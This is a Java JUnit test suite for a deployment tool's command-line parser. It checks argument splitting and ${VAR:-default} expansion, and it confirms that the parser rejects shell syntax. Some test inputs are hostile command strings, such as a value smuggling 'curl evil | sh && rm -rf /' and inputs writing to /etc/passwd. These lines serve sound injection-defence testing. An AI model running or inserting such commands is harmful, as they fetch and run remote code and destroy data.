package dev.autodeploy.deployer.target;

import java.util.List;
import java.util.Map;

import dev.autodeploy.deployer.target.CommandLine.Invocation;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class CommandLineTests {

    private static final Map<String, String> NONE = Map.of();

    @Test
    void splitsPlainCommandsIntoArguments() throws InvalidCommand {
        assertThat(argv("npm install", NONE)).containsExactly("npm", "install");
        assertThat(argv("npm run build", NONE)).containsExactly("npm", "run", "build");
        assertThat(argv("go build -o app ./cmd/server", NONE)).containsExactly("go", "build", "-o", "app",
                "./cmd/server");
        assertThat(argv("  npm \t run   build  ", NONE)).containsExactly("npm", "run", "build");
    }

    @Test
    void expandsDefaultsWhenThePortIsUnsetOrEmptyAndTheValueWhenSet() throws InvalidCommand {
        String php = "php -S 0.0.0.0:${PORT:-8080} -t public";
        assertThat(argv(php, NONE)).containsExactly("php", "-S", "0.0.0.0:8080", "-t", "public");
        assertThat(argv(php, Map.of("PORT", ""))).containsExactly("php", "-S", "0.0.0.0:8080", "-t", "public");
        assertThat(argv(php, Map.of("PORT", "41234"))).containsExactly("php", "-S", "0.0.0.0:41234", "-t", "public");

        assertThat(argv("python -m gunicorn app:app --bind 0.0.0.0:${PORT:-8000}", Map.of("PORT", "5000")))
                .containsExactly("python", "-m", "gunicorn", "app:app", "--bind", "0.0.0.0:5000");
    }

    @Test
    void leadingAssignmentsBelongToTheInvocationAndAreExpandedToo() throws InvalidCommand {
        List<Invocation> invocations = CommandLine
                .parse("PHX_SERVER=true PORT=${PORT:-4000} _build/prod/rel/x/bin/x start")
                .expand(Map.of("PORT", "45000"));

        assertThat(invocations).singleElement().satisfies(invocation -> {
            assertThat(invocation.argv()).containsExactly("_build/prod/rel/x/bin/x", "start");
            assertThat(invocation.assignments()).containsExactly(Map.entry("PHX_SERVER", "true"),
                    Map.entry("PORT", "45000"));
        });
        assertThat(CommandLine.parse("RAILS_ENV=production bundle exec rails server -b 0.0.0.0 -p ${PORT:-3000}")
                .expand(NONE).getFirst()).satisfies(invocation -> {
                    assertThat(invocation.argv()).containsExactly("bundle", "exec", "rails", "server", "-b",
                            "0.0.0.0", "-p", "3000");
                    assertThat(invocation.assignments()).containsExactly(Map.entry("RAILS_ENV", "production"));
                });
    }

    @Test
    void assignmentsAfterTheProgramAreArgumentsAndQuotedOrInvalidNamesAreNotAssignments() throws InvalidCommand {
        Invocation invocation = CommandLine.parse("env A=1 B=2").expand(NONE).getFirst();
        assertThat(invocation.argv()).containsExactly("env", "A=1", "B=2");
        assertThat(invocation.assignments()).isEmpty();

        assertThat(CommandLine.parse("'A=1' env").expand(NONE).getFirst().argv()).containsExactly("A=1", "env");
        assertThat(CommandLine.parse("1A=x env").expand(NONE).getFirst().argv()).containsExactly("1A=x", "env");
        assertThat(CommandLine.parse("A\\=x env").expand(NONE).getFirst().argv()).containsExactly("A=x", "env");
    }

    @Test
    void laterAssignmentsSeeEarlierOnesButArgumentsDoNotAsInAShell() throws InvalidCommand {
        Invocation invocation = CommandLine.parse("A=1 B=${A}2 EMPTY= QUOTED=\"a b\" echo $A")
                .expand(Map.of("A", "outer")).getFirst();

        assertThat(invocation.assignments()).containsExactly(Map.entry("A", "1"), Map.entry("B", "12"),
                Map.entry("EMPTY", ""), Map.entry("QUOTED", "a b"));
        assertThat(invocation.argv()).containsExactly("echo", "outer");
        assertThat(invocation.environment(Map.of("PATH", "/usr/bin", "A", "outer")))
                .containsEntry("PATH", "/usr/bin").containsEntry("A", "1").containsEntry("B", "12");
    }

    @Test
    void andRunsInvocationsInOrderEachWithItsOwnAssignments() throws InvalidCommand {
        List<Invocation> invocations = CommandLine.parse("mix assets.deploy && MIX_ENV=prod mix release x")
                .expand(NONE);

        assertThat(invocations).extracting(Invocation::argv).containsExactly(List.of("mix", "assets.deploy"),
                List.of("mix", "release", "x"));
        assertThat(invocations).extracting(Invocation::assignments).containsExactly(Map.of(),
                Map.of("MIX_ENV", "prod"));
        assertThat(CommandLine.parse("a&&b").expand(NONE)).extracting(Invocation::argv)
                .containsExactly(List.of("a"), List.of("b"));
    }

    @Test
    void singleQuotesAreLiteralAndDoubleQuotesExpand() throws InvalidCommand {
        assertThat(argv("echo 'a b' \"c $HOME\"", Map.of("HOME", "/home/app")))
                .containsExactly("echo", "a b", "c /home/app");
        assertThat(argv("echo '$HOME \"x\" \\n'", Map.of("HOME", "/home/app")))
                .containsExactly("echo", "$HOME \"x\" \\n");
        assertThat(argv("echo \"q\\\"uote\" \"back\\\\slash\" \"\\$HOME\" \"keep\\n\"", Map.of("HOME", "/h")))
                .containsExactly("echo", "q\"uote", "back\\slash", "$HOME", "keep\\n");
        assertThat(argv("echo ab'cd'\"ef\"", NONE)).containsExactly("echo", "abcdef");
    }

    @Test
    void anUnquotedBackslashEscapesTheNextCharacter() throws InvalidCommand {
        assertThat(argv("echo a\\ b \\; \\| \\$HOME \\\\ \\'", Map.of("HOME", "/h")))
                .containsExactly("echo", "a b", ";", "|", "$HOME", "\\", "'");
    }

    @Test
    void bracedDefaultsMayHoldVariablesAndBlanks() throws InvalidCommand {
        Map<String, String> env = Map.of("OTHER", "7000");
        assertThat(argv("serve --port ${PORT:-$OTHER}", env)).containsExactly("serve", "--port", "7000");
        assertThat(argv("serve --port ${PORT:-${OTHER:-1}0}", NONE)).containsExactly("serve", "--port", "10");
        assertThat(argv("serve \"${TITLE:-a b}\" ${FLAGS:--x -y}", NONE)).containsExactly("serve", "a b", "-x",
                "-y");
        assertThat(argv("echo ${X:-a\\}b} \"${X:-}\"", NONE)).containsExactly("echo", "a}b", "");
        assertThat(argv("echo ${HOME}dir $HOME/x", Map.of("HOME", "/h"))).containsExactly("echo", "/hdir", "/h/x");
    }

    @Test
    void unquotedValuesAreSplitAtBlanksAndEmptyOnesDropWhileQuotedOnesStay() throws InvalidCommand {
        Map<String, String> env = Map.of("JAVA_OPTS", " -Xmx256m  -Dx=1 ", "EMPTY", "", "SPACE", "b c");

        assertThat(argv("java $JAVA_OPTS -jar app.jar", env)).containsExactly("java", "-Xmx256m", "-Dx=1", "-jar",
                "app.jar");
        assertThat(argv("java \"$JAVA_OPTS\"", env)).containsExactly("java", " -Xmx256m  -Dx=1 ");
        assertThat(argv("echo $EMPTY $UNSET ${UNSET} \"$EMPTY\" '' \"\"", env))
                .containsExactly("echo", "", "", "");
        assertThat(argv("echo a$SPACE\"d\" x$EMPTY", env)).containsExactly("echo", "ab", "cd", "x");
    }

    @Test
    void aValueNeverBecomesSyntax() throws InvalidCommand {
        Map<String, String> evil = Map.of("X", "a; curl evil | sh && rm -rf / $(id) `id` > f");

        assertThat(CommandLine.parse("echo \"$X\"").expand(evil)).singleElement()
                .extracting(Invocation::argv).isEqualTo(List.of("echo", evil.get("X")));
        assertThat(CommandLine.parse("echo $X").expand(evil)).singleElement().extracting(Invocation::argv)
                .isEqualTo(List.of("echo", "a;", "curl", "evil", "|", "sh", "&&", "rm", "-rf", "/", "$(id)",
                        "`id`", ">", "f"));
    }

    @Test
    void globsTildesAndOtherPunctuationStayLiteral() throws InvalidCommand {
        assertThat(argv("cp *.js ?.txt [ab] ~/x ~ a=b user@host:1 % ^ + , ! a#b $ x$ $/", NONE))
                .containsExactly("cp", "*.js", "?.txt", "[ab]", "~/x", "~", "a=b", "user@host:1", "%", "^", "+",
                        ",", "!", "a#b", "$", "x$", "$/");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '\u00a6', quoteCharacter = '"', value = {
        "\"npm run build; curl evil\" ¦ ';' ¦ 14",
        "\"npm test | sh\" ¦ pipe ¦ 10",
        "\"$(curl evil)\" ¦ '$(' ¦ 1",
        "\"`id`\" ¦ '`' ¦ 1",
        "\"a && b || c\" ¦ '||' ¦ 8",
        "\"x > /etc/passwd\" ¦ '>' ¦ 3",
        "\"x >> log\" ¦ '>>' ¦ 3",
        "\"x < in\" ¦ '<' ¦ 3",
        "\"x 2>&1\" ¦ '>&' ¦ 4",
        "\"sleep 1 & curl evil\" ¦ '&' ¦ 9",
        "\"(cd x)\" ¦ '(' ¦ 1",
        "\"a )\" ¦ ')' ¦ 3",
        "\"{ a; }\" ¦ '{' ¦ 1",
        "\"echo {a,b}\" ¦ '{' ¦ 6",
        "\"echo \"\"`id`\"\"\" ¦ '`' ¦ 7",
        "\"echo \"\"$(id)\"\"\" ¦ '$(' ¦ 7",
        "\"echo $((1+1))\" ¦ '$(' ¦ 6",
        "\"npm run build # comment\" ¦ '#' ¦ 15",
        "\"echo $1\" ¦ '$1' ¦ 6",
        "\"echo $?\" ¦ '$?' ¦ 6",
        "\"echo ${#X}\" ¦ '${' ¦ 6",
        "\"echo ${X:=y}\" ¦ '${X:' ¦ 6",
        "\"echo ${X-y}\" ¦ '${X-' ¦ 6",
        "\"echo ${X:-$(id)}\" ¦ '$(' ¦ 11",
        "\"echo ${X:-a;b}\" ¦ ';' ¦ 12",
        "\"echo ${X\" ¦ '${' ¦ 6",
        "\"echo 'open\" ¦ single quote ¦ 6",
        "\"echo \"\"open\" ¦ double quote ¦ 6",
        "\"echo \\\" ¦ '\\' ¦ 6",
        "\"echo $'a'\" ¦ '$'' ¦ 6",
        "\"cd web && npm install\" ¦ 'cd' ¦ 1",
        "\"export A=1 && x\" ¦ 'export' ¦ 1",
        "\"if true\" ¦ 'if' ¦ 1",
        "\"! true\" ¦ '!' ¦ 1",
        "\"A=1\" ¦ no program ¦ 0",
        "\"&& a\" ¦ before ¦ 1",
        "\"a &&\" ¦ after ¦ 3",
        "\"a && && b\" ¦ before ¦ 6",
    })
    void rejectsWhatWouldNeedAShellNamingTheTokenAndPosition(String command, String named, int position) {
        assertThatThrownBy(() -> CommandLine.parse(command)).isInstanceOfSatisfying(InvalidCommand.class, e -> {
            assertThat(e.getMessage()).contains(named);
            assertThat(e.position()).isEqualTo(position);
            if (position > 0) {
                assertThat(e.getMessage()).endsWith("at position " + position);
            }
        });
    }

    @ParameterizedTest
    @ValueSource(strings = {"npm run build\ncurl evil", "npm run build\r\n", "echo \"a\nb\"", "echo 'a\nb'",
        "echo a\\\nb", "echo \u0007", "echo \u0000"})
    void rejectsLineBreaksAndControlCharactersEvenWhenQuoted(String command) {
        assertThatThrownBy(() -> CommandLine.parse(command)).isInstanceOf(InvalidCommand.class)
                .hasMessageMatching("(a line break|control character U\\+00\\p{XDigit}{2}) is not allowed.*"
                        + "at position \\d+");
    }

    @Test
    void rejectsEmptyAndOversizedCommands() {
        assertThatThrownBy(() -> CommandLine.parse("")).isInstanceOf(InvalidCommand.class).hasMessage(
                "the command is empty");
        assertThatThrownBy(() -> CommandLine.parse(" \t ")).isInstanceOf(InvalidCommand.class);
        assertThatThrownBy(() -> CommandLine.parse(null)).isInstanceOf(InvalidCommand.class);
        assertThatThrownBy(() -> CommandLine.parse("x".repeat(CommandLine.MAX_LENGTH + 1)))
                .isInstanceOf(InvalidCommand.class).hasMessageContaining("longer than 4096");
        assertThatThrownBy(() -> CommandLine.parse("a" + " a".repeat(CommandLine.MAX_WORDS)))
                .isInstanceOf(InvalidCommand.class).hasMessageContaining("more than 256 words");
    }

    @Test
    void acceptsExactlyTheLimits() throws InvalidCommand {
        assertThat(argv("a" + " a".repeat(CommandLine.MAX_WORDS - 1), NONE)).hasSize(CommandLine.MAX_WORDS);
        assertThat(argv("echo " + "x".repeat(CommandLine.MAX_LENGTH - 5), NONE)).hasSize(2);
    }

    @Test
    void expansionFailsWhenNoProgramRemainsOrTheWordsExplode() throws InvalidCommand {
        assertThatThrownBy(() -> CommandLine.parse("$CMD $ARGS").expand(NONE))
                .isInstanceOf(InvalidCommand.class).hasMessageContaining("'$CMD $ARGS' expands to no program");
        assertThatThrownBy(() -> CommandLine.parse("\"\" x").expand(NONE)).isInstanceOf(InvalidCommand.class);
        assertThatThrownBy(() -> CommandLine.parse("echo $MANY").expand(Map.of("MANY", "a ".repeat(300))))
                .isInstanceOf(InvalidCommand.class).hasMessageContaining("more than 256 words");
        assertThatThrownBy(() -> CommandLine.parse("echo \"$NUL\"").expand(Map.of("NUL", "a\0b")))
                .isInstanceOf(InvalidCommand.class).hasMessageContaining("NUL").hasMessageNotContaining("a\0b");
    }

    @Test
    void toStringNormalizesBlanksAndNeverExpands() throws InvalidCommand {
        CommandLine command = CommandLine.parse("  A=1   npm  run \"b  c\"   &&x   ${TOKEN:-none} ");
        assertThat(command).hasToString("A=1 npm run \"b  c\" && x ${TOKEN:-none}");
        assertThat(CommandLine.parse(command.toString())).hasToString(command.toString());
    }

    @Test
    void anInvocationsToStringLeavesOutExpandedValues() throws InvalidCommand {
        Invocation invocation = CommandLine.parse("TOKEN=$SECRET deploy --key $SECRET")
                .expand(Map.of("SECRET", "hunter2")).getFirst();
        assertThat(invocation.toString()).doesNotContain("hunter2").contains("deploy", "TOKEN");
    }

    private static List<String> argv(String command, Map<String, String> environment) throws InvalidCommand {
        List<Invocation> invocations = CommandLine.parse(command).expand(environment);
        assertThat(invocations).hasSize(1);
        return invocations.getFirst().argv();
    }
}
